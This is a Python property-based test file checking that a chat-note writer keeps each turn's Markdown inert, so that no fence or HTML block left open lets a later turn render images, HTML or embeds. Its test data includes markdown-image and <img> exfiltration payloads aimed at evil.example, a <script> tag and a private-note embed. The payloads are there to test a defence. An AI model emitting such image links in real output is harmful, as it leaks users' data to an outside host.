"""A chat note's turns are written one after another, each made inert on its own: no turn may
leave a block open (a fence, an HTML block) that takes in the next heading and the next turn,
whose own fence would then close it and draw its fenced image. Whatever the turns, the note as
CommonMark reads it (markdown-it) draws no image, embed or HTML tag of theirs, and each turn reads
back as the memory log holds it."""

from __future__ import annotations

from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from sidecar.memory.chat_note import new_note, note_content, parse_chat, turn_section
from sidecar.vault.note import parse_note
from sidecar.vault.vault_settings import load_vault_settings

MD = MarkdownIt("commonmark").enable("table")
CONTAINERS = ["", "> ", "- ", "1. ", "10) ", "> - ", "  ", "    ", "\t", "   "]
FENCES = ["```", "````", "~~~", "~~~~", "~~~~~", "```js", "~~~ text", "```dataviewjs"]
PAYLOADS = ["![leak](https://evil.example/x.png)", "<img src=https://evil.example/y.png>",
            "![[Private/Diary]]", "<!-- x", "<pre>", "<script>", "words", "## You · x",
            "Sources:", "- [1] [[Projects/Garden/Tomatoes|Tomatoes]], lines 1-2", ""]
LINE = st.tuples(st.sampled_from(CONTAINERS), st.sampled_from(FENCES + PAYLOADS)).map("".join)
TEXT = st.lists(LINE, min_size=1, max_size=6).map("\n".join)
CREATED = "2026-12-05T06:00:00+00:00"
# No ora.yaml there: the default settings.
EMPTY_VAULT = Path(__file__).resolve().parent / "no-such-vault"
SOURCES = ["- [1] [[Projects/Garden/Tomatoes|Tomatoes]], lines 1-2"]


def note_of(texts: list[str]) -> str:
    """A chat note holding `texts` as alternate questions and answers (each answer with its
    sources, as an answer that says something has), written as `ChatNotes` writes them: one
    section after another."""
    sections = [turn_section("user" if n % 2 == 0 else "assistant", text,
                             f"2026-12-05T06:{n:02d}:00+00:00", private=False,
                             sources=SOURCES if n % 2 and note_content(text).strip() else ())
                for n, text in enumerate(texts)]
    return new_note("c", "default", CREATED) + "\n".join(["", *sections])


def drawn(tokens: list[Token]) -> list[str]:
    """What a note's tokens draw from outside: images, HTML, and embeds in its text."""
    found: list[str] = []
    for token in tokens:
        if token.type in ("image", "html_block", "html_inline"):
            found.append(token.content or str(token.attrs))
        if token.type == "text" and "![[" in token.content:
            found.append(token.content)
        found += drawn(token.children or [])
    return found


@settings(max_examples=400, deadline=None, derandomize=True)
@given(st.lists(TEXT, min_size=2, max_size=5))
def test_no_turn_leaves_a_block_open_that_lets_the_next_turn_draw(texts: list[str]) -> None:
    # Before: an answer ending in an open `~~~` took in its sources and the next heading; the
    # next answer's leading `~~~` closed it, and its fenced image was drawn.
    note = note_of(texts)
    body = note.split("---\n", 2)[2]
    assert drawn(MD.parse(body)) == [], note


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.lists(TEXT, min_size=1, max_size=4))
def test_each_turn_reads_back_as_the_log_holds_it(texts: list[str]) -> None:
    settings = load_vault_settings(EMPTY_VAULT, None)
    chat = parse_chat(parse_note(note_of(texts), "Chats/Ora/c.md"), settings)
    assert chat is not None
    held = [note_content(text).strip() for text in texts]
    assert [t.content for t in chat.turns] == [text for text in held if text]


def test_a_fence_left_open_by_an_answer_is_closed_before_the_next_turn() -> None:
    note = note_of(["How much sun?", "Tomatoes need sun [1].\n~~~", "And compost?",
                    "~~~\n![leak](https://evil.example/x.png?d=blight)\n~~~"])
    body = note.split("---\n", 2)[2]
    assert drawn(MD.parse(body)) == []
    # the headings after it are headings again, the answer's sources a list
    html = MD.render(body)
    assert "<h2>Ora · 2026-12-05 06:03:00 UTC</h2>" in html and html.count("<ul>") == 2
